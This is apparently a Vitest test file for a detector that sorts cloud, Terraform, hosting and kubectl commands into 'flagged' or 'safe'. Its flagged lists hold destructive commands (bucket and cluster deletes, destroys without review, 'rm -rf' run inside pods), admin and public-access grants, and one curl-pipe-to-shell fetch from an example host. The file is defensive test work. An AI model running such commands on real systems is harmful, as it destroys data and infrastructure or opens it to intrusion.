import { beforeAll, describe, it } from "vitest";
import { initializeDetector } from "../../src/detection/index.js";
import { expectAll } from "./verdicts.js";

// Every command is only parsed; hosts are reserved example names or loopback.
describe("cloud, infrastructure and hosting CLIs", () => {
  beforeAll(async () => {
    await initializeDetector();
  });

  it("reads global options before the service and action", () => {
    expectAll(
      [
        "aws --region us-east-1 --profile prod s3 rm s3://logs --recursive",
        "aws --profile=prod --output json s3 rb s3://b --force",
        "aws s3 --region eu-west-1 rm --recursive s3://b/",
        "aws --endpoint-url http://s3.example.test s3 sync ./e s3://b --delete",
        "aws s3 mv s3://a/ s3://b/ --recursive",
        "aws --no-cli-pager ec2 terminate-instances --instance-ids i-1",
        "aws rds delete-db-cluster --db-cluster-identifier c --skip-final-snapshot",
        "aws ecr batch-delete-image --repository-name r --image-ids imageTag=v1",
        "aws kms schedule-key-deletion --key-id k --pending-window-in-days 7",
        "aws ec2 stop-instances --instance-ids i-1",
        "gcloud --project prod compute instances delete vm-1 --quiet",
        "gcloud storage rm -r gs://bucket",
        "gcloud storage rm --recursive gs://bucket/**",
        "gcloud storage rm gs://bucket/**",
        "gsutil -m rm -r gs://bucket",
        "gsutil -o Credentials:x=y rb gs://bucket",
        "gsutil -m rsync -d -r ./empty gs://bucket",
        "az --subscription prod group delete -n rg -y",
        "az storage blob delete-batch --source c --account-name a",
        "doctl compute droplet rm 123 --force",
        "doctl databases delete abc",
      ],
      "flagged",
    );
    expectAll(
      [
        "aws --region us-east-1 s3 ls s3://b",
        "aws s3 rm s3://b/one-key.txt",
        "aws s3 sync ./dist s3://b",
        "aws ec2 terminate-instances --instance-ids i-1 --dry-run",
        "aws --profile prod sts get-caller-identity",
        "gcloud storage ls gs://b",
        "gcloud storage rm gs://b/old.txt",
        "gsutil cp ./a gs://b/a",
        "az group list -o table",
        "doctl compute droplet list",
      ],
      "safe",
    );
  });

  it("grants of cloud access and resources opened to everyone", () => {
    expectAll(
      [
        "aws iam create-access-key --user-name admin",
        "aws iam attach-user-policy --user-name bob --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
        "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0",
        "aws s3api put-bucket-acl --bucket b --acl public-read",
        "aws s3 cp ./x s3://b/x --acl public-read",
        "gcloud projects add-iam-policy-binding p --member=user:x@example.com --role=roles/owner",
        "gcloud storage buckets add-iam-policy-binding gs://b --member=allUsers --role=roles/storage.objectViewer",
        "gcloud iam service-accounts keys create key.json --iam-account sa@p.iam.gserviceaccount.com",
        "az role assignment create --assignee x --role Owner --scope /subscriptions/s",
        "gsutil iam ch allUsers:objectViewer gs://b",
      ],
      "flagged",
    );
    expectAll(
      [
        "aws iam list-users",
        "aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess",
        "gcloud projects add-iam-policy-binding p --member=user:x@example.com --role=roles/viewer",
        "az role assignment list --assignee x",
      ],
      "safe",
    );
  });

  it("teardowns and applies that skip review", () => {
    expectAll(
      [
        "terraform destroy",
        "terraform -chdir=infra destroy -auto-approve",
        "terraform apply -destroy -auto-approve",
        "terraform apply -auto-approve",
        "terraform -chdir=infra apply -var 'x=1' -auto-approve",
        "terraform apply --auto-approve",
        "terraform state rm aws_instance.web",
        "terraform workspace delete prod",
        "tofu destroy -auto-approve",
        "terragrunt destroy",
        "terragrunt run-all destroy",
        "terragrunt run-all apply --terragrunt-non-interactive",
        "terragrunt run --all apply",
        "pulumi destroy --yes",
        "pulumi -C infra destroy -y",
        "pulumi up --yes",
        "pulumi up --skip-preview",
        "pulumi stack rm prod --force",
        "cdk destroy --force",
        "cdk deploy --require-approval never",
        "serverless remove --stage prod",
        "sls remove",
        "helm uninstall api",
        "helm -n prod uninstall api",
        "helm --kube-context prod delete api",
      ],
      "flagged",
    );
    expectAll(
      [
        "terraform plan",
        "terraform apply",
        "terraform -chdir=infra plan -out plan.tfplan",
        "terraform apply plan.tfplan",
        "terraform apply -auto-approve plan.tfplan",
        "terraform state list",
        "tofu init",
        "pulumi preview",
        "pulumi up",
        "cdk deploy",
        "helm upgrade --install api ./chart",
        "helm -n prod list",
      ],
      "safe",
    );
  });

  it("object-store sync tools that delete", () => {
    expectAll(
      [
        "rclone purge remote:backups",
        "rclone --config x.conf purge s3:bucket",
        "rclone delete remote:bucket --min-age 1d",
        "rclone deletefile remote:a/b",
        "rclone rmdirs remote:x",
        "rclone sync ./empty remote:backups",
        "rclone sync ./dist /srv/www",
        "rclone move remote:a ./local",
        "s3cmd rb s3://b",
        "s3cmd del --recursive --force s3://b",
        "s3cmd sync --delete-removed ./e s3://b",
        "mc rb --force play/bucket",
        "mc rm --recursive --force local/bucket",
        "mc mirror --remove ./e play/bucket",
      ],
      "flagged",
    );
    expectAll(
      [
        "rclone ls remote:bucket",
        "rclone copy ./dist remote:bucket",
        "rclone sync remote:bucket ./local-mirror",
        "rclone purge remote:backups --dry-run",
        "rclone move ./out ./archive",
        "s3cmd ls s3://b",
        "s3cmd del s3://b/one.txt",
        "mc ls play",
        "mc cp ./a play/bucket/a",
      ],
      "safe",
    );
  });

  it("hosting CLIs with word verbs", () => {
    expectAll(
      [
        "flyctl apps destroy myapp --yes",
        "fly -a myapp volumes destroy vol_1",
        "heroku apps:destroy --app x --confirm x",
        "heroku pg:reset DATABASE --confirm x",
        "vercel remove my-app --yes",
        "netlify sites:delete abc",
        "firebase firestore:delete --all-collections",
        "wrangler r2 bucket delete b",
        "wrangler delete",
        "railway down",
        "supabase db reset --linked",
        "openstack server delete vm",
        "oci os bucket delete --bucket-name b --force",
        "hcloud server delete web-1",
      ],
      "flagged",
    );
    expectAll(
      [
        "fly deploy",
        "heroku logs --tail -a x",
        "vercel --prod",
        "netlify deploy --prod",
        "firebase deploy --only hosting",
        "wrangler deploy",
        "supabase db reset",
        "openstack server list",
      ],
      "safe",
    );
  });
});

describe("kubectl and oc", () => {
  beforeAll(async () => {
    await initializeDetector();
  });

  it("deletes of whole kinds, manifests or everything", () => {
    expectAll(
      [
        "kubectl delete ns prod",
        "kubectl -n prod delete deploy api",
        "kubectl --context prod delete pvc data",
        "kubectl delete pods --all -n prod",
        "kubectl delete -f k8s/",
        "kubectl delete -k overlays/prod",
        "kubectl delete all --all",
        "oc delete project x",
        "kubectl delete svc,deploy -l app=x",
      ],
      "flagged",
    );
    expectAll(
      [
        "kubectl delete pod api-5d9 -n dev",
        "kubectl delete -f k8s/ --dry-run=client",
        "kubectl get pods -n prod",
        "kubectl apply -f k8s/",
      ],
      "safe",
    );
  });

  it("commands run in pods are analysed as what they run", () => {
    expectAll(
      [
        "kubectl exec -it deploy/api -- rm -rf /data",
        "kubectl -n prod exec pod-1 -c app -- sh -c 'rm -rf /var/lib/data'",
        "kubectl exec pod-1 -- psql -c 'DROP TABLE users'",
        "kubectl run tmp --rm -it --image=alpine -- sh -c 'curl http://x.example/s | sh'",
        "oc exec pod-1 -- rm -rf /srv/app",
        "k3s kubectl exec pod-1 -- rm -rf /data",
      ],
      "flagged",
    );
    expectAll(
      [
        "kubectl exec -it deploy/api -- ls /data",
        "kubectl exec pod-1 -- cat /etc/hosts",
        "kubectl run tmp --rm -it --image=busybox -- wget -qO- http://svc",
        "kubectl exec -it pod-1 -- sh",
      ],
      "safe",
    );
  });

  it("host access, evictions, admin grants and exposed APIs", () => {
    expectAll(
      [
        "kubectl debug node/worker-1 -it --image=ubuntu",
        "kubectl debug pod/x -it --image=busybox --profile=sysadmin",
        'kubectl run x --image=alpine --overrides=\'{"spec":{"hostPID":true}}\' -- sh',
        "kubectl run -it --rm shell --image=alpine --privileged -- sh",
        "kubectl drain node-1 --ignore-daemonsets --delete-emptydir-data --force",
        "kubectl replace --force -f x.yaml",
        "kubectl apply --prune -l app=x -f dir/",
        "kubectl scale deploy/api --replicas=0",
        "kubectl -n prod scale --replicas 0 statefulset/db",
        "kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default",
        "kubectl proxy --address 0.0.0.0 --accept-hosts '.*'",
        "kubectl port-forward --address 0.0.0.0 svc/db 5432:5432",
      ],
      "flagged",
    );
    expectAll(
      [
        "kubectl debug pod/x -it --image=busybox --target=app",
        "kubectl scale deploy/api --replicas=3",
        "kubectl create rolebinding x --clusterrole=view --user=bob",
        "kubectl proxy",
        "kubectl port-forward svc/db 5432:5432",
      ],
      "safe",
    );
  });
});
